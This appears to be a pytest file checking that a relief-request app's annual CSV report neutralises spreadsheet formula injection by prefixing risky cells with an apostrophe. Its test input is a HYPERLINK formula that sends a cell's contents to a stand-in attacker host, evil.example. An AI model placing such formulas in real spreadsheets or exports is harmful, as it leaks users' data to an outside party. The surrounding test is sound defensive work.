"""The report's CSV is opened in spreadsheets: text a requester typed must show there, not run."""
from __future__ import annotations

import csv
import io

import pytest

from extensions import db
from reports.render import _inert
from tests.workflows.relief.conftest import relief_data
from workflows import engine

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click for details")'


def test_a_formula_typed_into_a_request_reaches_the_csv_as_text(make_user, api):
    sam, cara = make_user("sam", "staff"), make_user("cara", "cao")
    case = engine.create_case(db.session, sam, "relief", "Flood relief", ["compassion"], relief_data(country=FORMULA))
    engine.fire(db.session, sam, case.id, "submit", case.version)
    client = api(cara)

    rows = list(csv.reader(io.StringIO(client.get("/api/v1/reports/annual?format=csv").get_data(as_text=True))))
    countries = {group for section, measure, group, _value in rows[1:] if measure.startswith("by_country.")}
    assert countries == {"'" + FORMULA}  # a leading apostrophe: the spreadsheet shows the text
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    # Figures stay numbers, and the other formats keep the text as typed.
    assert any(value == "1" for section, measure, group, value in rows if measure == "by_country.requests")
    by_country = client.get("/api/v1/reports/annual").get_json()["relief"]["by_country"]
    assert [row["country"] for row in by_country] == [FORMULA]


@pytest.mark.parametrize("typed, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-1250.00", "-1250.00"), ("+7", "+7"), ("2026-11-29", "2026-11-29"), ("Brazil", "Brazil"),
    ("travel:None>submit>submitted", "travel:None>submit>submitted"), (3, 3), (None, None)])
def test_only_text_a_spreadsheet_would_run_is_made_inert(typed, written):
    assert _inert(typed) == written
